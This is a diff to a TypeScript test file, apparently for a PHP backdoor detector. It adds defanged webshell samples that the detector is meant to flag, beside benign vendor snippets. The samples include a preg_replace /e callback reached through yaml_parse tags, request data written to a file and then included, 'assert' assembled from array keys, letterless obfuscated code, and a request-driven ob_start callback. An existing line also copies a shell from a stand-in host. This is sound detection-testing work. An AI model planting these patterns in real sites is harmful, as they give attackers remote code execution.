@@ -4,8 +4,10 @@
 // create_function builds from pieces, numbers XORed into character codes, a reference to a
 // function name, eval of text appended piece by piece, a variable that reads itself unset, an
 // array filled with `$a[] =`, a file decoder that reassigns its parameter, a function name kept
-// in a doc comment, and a script copied from another host as PHP. Defanged samples written here
-// (the commands are `id`), beside vendor code that uses the same calls for their everyday work.
+// in a doc comment, a script copied from another host as PHP, yaml_parse's tag callbacks, request
+// data written to a file that is then included, names taken from array_keys, and code written
+// without letters. Defanged samples written here (the commands are `id`), beside vendor code
+// that uses the same calls for their everyday work.
 
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
@@ -83,6 +85,26 @@ const backdoors: [string, string][] = [
     `<?php\n/**\n * assert\n */\nclass T {}\n$r = new ReflectionClass('T');\n$s = $r->getDocComment();\n$f = substr($s, 7, 6);\n$f($s);\n`,
   ],
   ['a script copied from another host as PHP', `<?php\ncopy('http://example.invalid/shell.txt', 'x.php');\n`],
+  [
+    'yaml_parse handing a tag the request names to preg_replace',
+    `<?php\n$y = "a: !{$_REQUEST['t']} \\"|.+|e\\"";\nyaml_parse($y, 0, $n, array("!{$_REQUEST['t']}" => 'preg_replace'));\n`,
+  ],
+  [
+    'request data written into an .html file, then included',
+    `<?php\n$c = base64_decode($_GET['c']);\nfile_put_contents('style.html', "<?php\\n");\nfile_put_contents('style.html', $c, FILE_APPEND);\nrequire 'style.html';\n`,
+  ],
+  [
+    "a function's name taken from an array's keys",
+    `<?php\n$p = array('a' => 1, 's' => 2, 'e' => 3, 'r' => 4, 't' => 5);\n$k = array_keys($p);\n$f = $k[0] . $k[1] . $k[1] . $k[2] . $k[3] . $k[4];\n$f(base64_decode($_POST['q']));\n`,
+  ],
+  [
+    'code written without letters',
+    `<?php\n$_ = [];\n$_ = @"$_";\n$_ = $_['!' == '@'];\n$__ = $_;\n${'$__++;'.repeat(18)}\n$___ = $__;\n${'$___++;'.repeat(12)}\n$____ = $_ . $__ . $___;\n$_____ = $___ . $__;\n$____($_____);\n`,
+  ],
+  [
+    "ob_start's callback built from the request in a loop",
+    `<?php\n$id = $_GET['id'];\n$s = '';\nforeach (array($id) as $v) { $s .= $v; }\nob_start($s);\necho $_GET['c'];\nob_end_flush();\n`,
+  ],
 ];
 
 const vendor: [string, string][] = [
@@ -104,6 +126,15 @@ const vendor: [string, string][] = [
   [
     'a request method picked by name',
     `<?php\n$method = 'GET';\n$data = \${'_' . $method};\necho htmlspecialchars($data['q'] ?? '');\n`,
+  ],
+  [
+    'yaml_parse with a callback of its own',
+    `<?php\nfunction money($v) { return (float) $v; }\n$d = yaml_parse($text, 0, $n, array('!money' => 'money'));\n`,
+  ],
+  ['a table of numbers', `<?php\nreturn [${Array.from({ length: 80 }, (_, i) => i * 7).join(', ')}];\n`],
+  [
+    'a list built in a loop and printed',
+    `<?php\n$s = '';\nforeach ($_GET['tags'] as $t) { $s .= htmlspecialchars($t) . ', '; }\necho $s;\n`,
   ],
   ['a string appended and printed', `<?php\n$html = '<ul>';\n$html .= '<li>a</li>';\n$html .= '</ul>';\necho $html;\n`],
 ];
